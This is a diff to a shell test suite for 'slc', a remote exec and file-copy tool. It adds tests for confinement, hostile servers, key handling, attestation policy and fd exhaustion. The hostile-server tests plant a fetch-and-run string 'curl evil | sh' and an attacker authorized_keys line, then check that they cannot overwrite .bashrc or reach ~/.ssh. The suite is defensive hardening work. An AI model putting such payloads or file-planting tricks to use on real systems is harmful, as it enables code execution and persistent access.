@@ -2,8 +2,11 @@
 # slc end to end on the host, over unix and tcp: exec (output, status, stdin,
 # PTY, signals, timeouts, no-wait), cp of files and trees both ways (modes,
 # mtimes, symlinks, empty dirs, sparse files over 4 GiB, cp semantics),
-# confinement on both sides, hostile peers, faults (bad frames, dying peers,
-# full disk), key authentication, --insecure agreement, upstream flags, and
+# confinement on both sides, hostile peers (a server naming what lands,
+# chmod-ing existing directories, announcing 2^62-byte holes; idle peers
+# against few fds), faults (bad frames, dying peers, full disk), key
+# authentication, the attestation policy and where config may set it,
+# --insecure agreement, upstream flags, exit codes, the progress line, and
 # no fd leak in the server.
 T_NAME=slc
 . "$NEK_ROOT/tests/lib.sh"
@@ -112,6 +115,10 @@ err$' "$(cat "$D/err")"
 	t_eq "$tr: a single file down under a new name" new "$(cat "$D/fetched")"
 	t_exit "$tr: a missing remote source fails" 1 slc cp "${C[@]}" :/missing "$D/x"
 	t_match "$tr: ... and says so" "'/missing'.*No such file" "$(slc cp "${C[@]}" :/missing "$D/x" 2>&1)"
+	t_exit "$tr: a missing source into a new DST/ fails" 1 slc cp "${C[@]}" :/missing "$D/back2/deep/"
+	t_eq "$tr: ... and leaves no empty directory behind" "" "$(ls -d "$D/back2" 2>/dev/null)"
+	slc cp "${C[@]}" :/missing "$D/down/" 2>/dev/null
+	t_eq "$tr: ... but keeps a directory that was there" yes "$([ -d "$D/down" ] && echo yes)"
 	kill "$srv"
 	wait "$srv"
 	t_eq "$tr: server exits 0 on SIGTERM" 0 $?
@@ -137,6 +144,14 @@ t_eq "... data past 4 GiB" "past 4 GiB" "$(dd if="$R/sparse" bs=1 skip=$((4 * 10
 t_eq "... still sparse" yes "$([ "$(du -k "$R/sparse" | cut -f1)" -lt 1024 ] && echo yes)"
 t_ok "5 GiB sparse file down (digest checked)" slc cp "${C[@]}" --sha256 :/sparse "$D/sparse.back"
 t_eq "... same head" head "$(head -c 4 "$D/sparse.back")"
+# The progress line (stderr a terminal): name, done / total, percent, rate,
+# ETA, sources done; holes count, so a sparse file ends at 100%.
+prog=$(script -qec "slc cp ${C[*]} :/blob $D/blob.prog" /dev/null | tr '\r' '\n')
+t_match "progress line: name, total, percent, ETA" ':/blob  [0-9.]+ KiB / 195\.3 KiB  100%  .*/s  ETA 0:00  \[1/1\]' "$prog"
+prog=$(script -qec "slc cp ${C[*]} $D/sparse :/sparse2" /dev/null | tr '\r' '\n')
+t_match "... a sparse upload counts its holes" 'sparse  5\.0 GiB / 5\.0 GiB  100%' "$prog"
+prog=$(script -qec "slc cp ${C[*]} $D/src :/progtree" /dev/null | tr '\r' '\n')
+t_match "... a tree: no total before it is walked" 'src  [0-9.]+ KiB  .*/s  \[1/1\]' "$prog"
 
 # Server-side confinement: every remote path resolves below --root.
 mkdir -p "$R/in"
@@ -169,8 +184,58 @@ t_match "... and is reported" "'bad': digest mismatch" "$(cat "$D/evil.digest")"
 t_eq "hostile server dies mid-file: no partial file" "" "$(ls -A "$D/dest" | grep -x die; find "$D/dest" -name '.slc-*')"
 t_match "... and the client says the connection was lost" "connection lost" "$(cat "$D/evil.die")"
 
+# A hostile server does not choose the landed name (audit 1, the scp
+# CVE-2019-6111 pattern): into a directory, the top lands under the name of
+# the remote path asked for, and directories the client had keep their mode.
+evil() { # MODE SRC DST [TARGET]: runs one hostile exchange, output in $D/evil.MODE
+	t_bg slc_evil "$1" "$D/evil.sock" "${4:-$D/outside}"
+	t_wait_sock "$D/evil.sock"
+	timeout 20 slc cp -c "unix:$D/evil.sock" --insecure "$2" "$3" >"$D/evil.$1" 2>&1
+	echo $? >"$D/evil.$1.rc"
+	wait $T_LAST_PID 2>/dev/null
+}
+H=$D/home
+mkdir -p "$H/x/sub"
+printf 'original\n' >"$H/.bashrc"
+chmod 0700 "$H/x" "$H/x/sub"
+touch -d '2004-04-04 04:04:04' "$H/x"
+evil rename :/var/log/app.log "$H"
+t_eq "hostile server: the top lands under the name asked for" "curl evil | sh" "$(cat "$H/app.log" 2>/dev/null)"
+t_eq "... not under the server's name" original "$(cat "$H/.bashrc")"
+evil rename :/var/log/app.log "$H/"
+t_eq "... also with DST/" original "$(cat "$H/.bashrc")"
+evil abstop :/y "$H" "$D/outside/abs"
+t_match "hostile server: an absolute top name is a protocol error" "ENTRY: bad name" "$(cat "$D/evil.abstop")"
+t_eq "... and lands nothing" "" "$(ls -A "$D/outside"; ls "$H" | grep -v -x -e x -e app.log)"
+evil chmod :/x "$H"
+t_eq "hostile server: merged into an existing directory, under the name asked for" \
+	"ssh-ed25519 AAAA evil" "$(cat "$H/x/authorized_keys" 2>/dev/null)"
+t_eq "... which keeps its mode, not the sender's mtime (1970)" "700 no" \
+	"$(stat -c %a "$H/x") $([ "$(date -r "$H/x" +%Y)" = 1970 ] && echo yes || echo no)"
+t_eq "... and so does an existing directory inside it" 700 "$(stat -c %a "$H/x/sub")"
+t_eq "... no directory under the server's name" "" "$(ls -d "$H/ssh" 2>/dev/null)"
+rm -rf "$D/newx"
+evil chmod :/x "$D/newx"
+t_eq "a directory the copy made takes the sender's mode" 777 "$(stat -c %a "$D/newx" 2>/dev/null)"
+t0=$(date +%s)
+evil hole :/h "$D/hole"
+t_eq "hostile server: a 2^62-byte hole costs no hashing (audit 6)" yes \
+	"$([ "$(cat "$D/evil.hole.rc")" != 124 ] && [ $(($(date +%s) - t0)) -lt 10 ] && echo yes)"
+rm -f "$D/hole"
+
+# A hostile client announcing a hole-only 2^62-byte file: the server spends
+# no hashing on it and keeps serving everyone else (audit 6).
+t_bg slc_evil put-hole "$D/r.sock" /hole62
+hpid=$T_LAST_PID
+sleep 0.3
+t_eq "a 2^62-byte hole upload does not stall the server" ok \
+	"$(timeout 5 slc run "${C[@]}" -- echo ok 2>/dev/null)"
+kill "$hpid" 2>/dev/null
+wait "$hpid" 2>/dev/null
+rm -f "$R/hole62"
+
 # Bad input to the server: it answers with an error and keeps serving.
-hello='SLCc\x00\x01\x00\x01'
+hello='SLCc\x00\x02\x00\x01'
 zeros=$(printf '%064d' 0 | sed 's/0/\\x00/g')
 bad() { printf "$hello$zeros$1" | socat -t 1 - "UNIX-CONNECT:$D/r.sock" 2>/dev/null | od -An -c | tr -d ' \n'; }
 t_match "oversized record: EPROTO error" "recordlength" "$(bad '\xff\xff\xff\xff')"
@@ -222,6 +287,19 @@ slc keygen -o "$D/keys/server" >/dev/null
 slc keygen -o "$D/keys/stranger" >/dev/null
 t_eq "private key is 0600" 600 "$(stat -c %a "$D/keys/client")"
 t_exit "keygen does not overwrite" 1 slc keygen -o "$D/keys/client"
+# Neither key file is written through a symlink (audit 7).
+printf 'precious\n' >"$D/keys/victim"
+ln -s "$D/keys/victim" "$D/keys/lk.pub"
+out=$(slc keygen -o "$D/keys/lk" 2>&1)
+t_eq "keygen: FILE.pub a symlink: refused" 1 $?
+t_match "... naming it" "^slc keygen: '$D/keys/lk.pub': File exists \(--force replaces it\)" "$out"
+t_eq "... the link's target untouched, no half pair left" "precious no" \
+	"$(cat "$D/keys/victim") $([ -e "$D/keys/lk" ] && echo yes || echo no)"
+ln -s "$D/keys/victim" "$D/keys/lk2"
+t_exit "keygen: FILE a symlink: refused" 1 slc keygen -o "$D/keys/lk2"
+t_ok "keygen --force" slc keygen --force -o "$D/keys/lk" >/dev/null
+t_eq "... replaces the symlink instead of writing through it" "precious regular file" \
+	"$(cat "$D/keys/victim") $(stat -c %F "$D/keys/lk.pub")"
 cp "$D/keys/client.pub" "$D/keys/authorized"
 port=$(t_free_port)
 t_bg slc listen --listen "tcp:127.0.0.1:$port" --root "$R" --key "$D/keys/server" \
@@ -252,7 +330,7 @@ t_bg slc listen --listen "unix:$D/h.sock" --root "$R" --key "$D/keys/server" \
 	--authorized-keys "$D/keys/authorized" --handshake-timeout 300ms
 t_wait_sock "$D/h.sock"
 t0=$(date +%s%N)
-(printf 'SLCc\x00\x01\x00\x00'; head -c 64 /dev/urandom; sleep 3) |
+(printf 'SLCc\x00\x02\x00\x00'; head -c 64 /dev/urandom; sleep 3) |
 	(socat -t 0.2 - "UNIX-CONNECT:$D/h.sock" >/dev/null 2>&1; date +%s%N >"$D/hs.end")
 t_eq "a client that never authenticates is dropped after --handshake-timeout" yes \
 	"$([ $(($(cat "$D/hs.end") - t0)) -lt 2000000000 ] && echo yes)"
@@ -277,15 +355,82 @@ t_eq "a PCR mismatch is refused (255)" 255 $?
 t_match "... naming the PCR" "PCR8 is abab.*expected cdcd" "$out"
 out=$(slc run -c "unix:$D/a.sock" --key "$D/keys/client" --pcr "8=$pcr8" -- echo no 2>&1)
 t_match "the emulator's documents fail against the AWS root" "not the trusted root" "$out"
-out=$(slc run -c "unix:$D/ad.sock" --key "$D/keys/client" --trust-root "$D/emu-debug/root.pem" -- echo no 2>&1)
+out=$(slc run -c "unix:$D/ad.sock" --key "$D/keys/client" --trust-root "$D/emu-debug/root.pem" --any-image -- echo no 2>&1)
 t_match "a debug-mode enclave is refused" "debug" "$out"
 t_eq "... unless --allow-debug" ok "$(slc run -c "unix:$D/ad.sock" --key "$D/keys/client" \
-	--trust-root "$D/emu-debug/root.pem" --allow-debug -- echo ok)"
+	--trust-root "$D/emu-debug/root.pem" --any-image --allow-debug -- echo ok)"
+# A policy must pin the image (PCR0, 1, 2 or 8), or say --any-image (audit 9).
+out=$(slc run "${A[@]}" -- echo no 2>&1)
+t_eq "a policy of --trust-root alone is refused (usage, 2)" 2 $?
+t_match "... saying why and what to do" "pins none of PCR0, 1, 2 or 8.*--any-image" "$out"
+out=$(slc run "${A[@]}" --pcr "3=$pcr8" --pcr "4=$pcr8" -- echo no 2>&1)
+t_eq "a policy of host-chosen PCR3/PCR4 alone is refused" 2 $?
+t_eq "--any-image accepts any image of that root" ok "$(slc run "${A[@]}" --any-image -- echo ok)"
+out=$(slc cp "${A[@]}" "$D/over" :/noimage 2>&1)
+t_eq "cp: the same rule" 2 $?
+# The working directory cannot replace the trust root (audit 2): a hostile
+# checkout's .config/pipeline.config.yaml trusting the emulator is ignored.
+mkdir -p "$D/checkout/.config"
+printf 'trust_root: %s\npcr8: %s\nconnect: unix:%s\nkey: %s\n' "$D/emu/root.pem" "$pcr8" "$D/a.sock" \
+	"$D/keys/client" >"$D/checkout/.config/pipeline.config.yaml"
+out=$(cd "$D/checkout" && slc run --key "$D/keys/client" -- echo no 2>&1)
+t_eq "a cwd config's trust_root and pcrN are not used" 255 $?
+t_match "... it warns about them" "pipeline.config.yaml line 1: 'trust_root' ignored" "$out"
+t_match "... and the server stays unchecked" "nothing to check the server" "$out"
+out=$(cd "$D/checkout" && slc run --key "$D/keys/client" --pcr "8=$pcr8" -- echo no 2>&1)
+t_match "... even with a PCR from the command line: the AWS root stays" "not the trusted root" "$out"
 printf 'trust_root: %s\npcr8: %s\nconnect: unix:%s\nkey: %s\n' "$D/emu/root.pem" "$pcr8" "$D/a.sock" \
 	"$D/keys/client" >"$D/att.yaml"
 t_eq "policy from the config file" ok "$(slc -c "$D/att.yaml" run -- echo ok)"
 t_exit "a server attesting with a missing emulator fails to start" 1 \
 	slc listen --listen "unix:$D/x.sock" --emu "$D/none" --authorized-keys "$D/keys/authorized"
+
+# ---------------------------------------------------------------- idle peers, few fds (audit 5)
+# 80 peers against a server limited to 64 fds (a8dbd5c spun on EMFILE,
+# 248,149 log lines a second): it stays responsive and its log short.
+idle_peers() { # SOCKET N HELLO: N connections held open, after a hello if HELLO=1
+	t_bg python3 -c '
+import socket, sys, time
+held = []
+for i in range(int(sys.argv[2])):
+    c = socket.socket(socket.AF_UNIX)
+    try:
+        c.connect(sys.argv[1])
+        held.append(c)
+        if sys.argv[3] == "1":  # through the handshake, one after another
+            c.settimeout(1)
+            c.send(b"SLCc\x00\x02\x00\x01" + bytes(64))
+            c.recv(8)
+    except OSError:
+        pass
+time.sleep(30)' "$@"
+}
+for hello in 0 1; do
+	sock=$D/idle-$hello.sock
+	t_bg sh -c 'ulimit -n 64 && exec "$@"' sh slc listen --listen "unix:$sock" --insecure \
+		--root "$R" 2>"$D/idle-$hello.log"
+	srv=$T_LAST_PID
+	t_wait_sock "$sock"
+	idle_peers "$sock" 80 $hello
+	peers=$T_LAST_PID
+	sleep 1.5
+	if [ $hello = 0 ]; then
+		t_eq "80 peers that never say hello, 64 fds: a client still gets through" ok \
+			"$(timeout 5 slc run -c "unix:$sock" --insecure -- echo ok 2>/dev/null)"
+	else
+		# Every fd held by a connected client: the server waits, then serves.
+		sleep 1
+		kill "$peers"
+		wait "$peers" 2>/dev/null
+		t_eq "fds exhausted by 80 clients: served again once they leave" ok \
+			"$(timeout 5 slc run -c "unix:$sock" --insecure -- echo ok 2>/dev/null)"
+	fi
+	n=$(wc -l <"$D/idle-$hello.log")
+	t_eq "hello=$hello: ... and the log stays short ($n lines)" yes "$([ "$n" -lt 20 ] && echo yes)"
+	kill "$peers" "$srv" 2>/dev/null
+	wait "$peers" "$srv" 2>/dev/null
+done
+t_match "the accept backoff is logged, rate-limited" "accept: Too many open files: pausing" "$(cat "$D/idle-1.log")"
 
 # ---------------------------------------------------------------- upstream flags
 I=(--connect "unix:$D/i.sock" --insecure)
@@ -304,10 +449,23 @@ out=$(slc run --cid 16 --port 5000 --insecure --command true 2>&1)
 t_match "--cid/--port mean vsock (refused on this host)" "AF_VSOCK is disabled" "$out"
 out=$(slc listen --port 53000 --insecure 2>&1)
 t_match "listen --port: vsock:ANY:P (refused on this host)" "AF_VSOCK is disabled" "$out"
+mkdir -p "$D/upstream/.config"
+printf 'connect: unix:%s\n' "$D/i.sock" >"$D/upstream/.config/pipeline.config.yaml"
+t_eq "upstream's ./.config/pipeline.config.yaml still gives the address" ok \
+	"$(cd "$D/upstream" && slc run --insecure -- echo ok 2>/dev/null)"
 printf 'cid: 7\nport: 6000\nbuffers:\n  backlog: 128\n' >"$D/cfg.yaml"
 out=$(slc -c "$D/cfg.yaml" -v run --insecure -- true 2>&1)
 t_match "-c/--config: cid and port are the defaults" "vsock:7:6000" "$out"
 t_exit "usage error exits 2" 2 slc cp onlyone
+# Exit codes (docs/slc.md): 0/1/2 everywhere; slc run alone passes the
+# remote status through and says 255 for its own failures.
+t_exit "cp: no server is a failure (1)" 1 slc cp -c "unix:$D/none.sock" --insecure --connect-timeout 0 :/x "$D/nx"
+t_exit "run: no server is slc's own failure (255)" 255 slc run -c "unix:$D/none.sock" --insecure --connect-timeout 0 -- true
+t_exit "listen: a bad --root is a failure (1)" 1 slc listen --listen "unix:$D/x.sock" --insecure --root "$D/none"
+t_eq "... and no empty directory was left by the failed cp" "" "$(ls -d "$D/nx" 2>/dev/null)"
+out=$(slc run --bogus -- true 2>&1)
+t_eq "an unknown option exits 2" 2 $?
+t_match "... prefixed by the program and command" "^slc run: unrecognized option '--bogus'" "$out"
 t_exit "both sides local is a usage error" 2 slc cp "$D/a" "$D/b"
 t_ok "--help" slc cp --help
 t_done
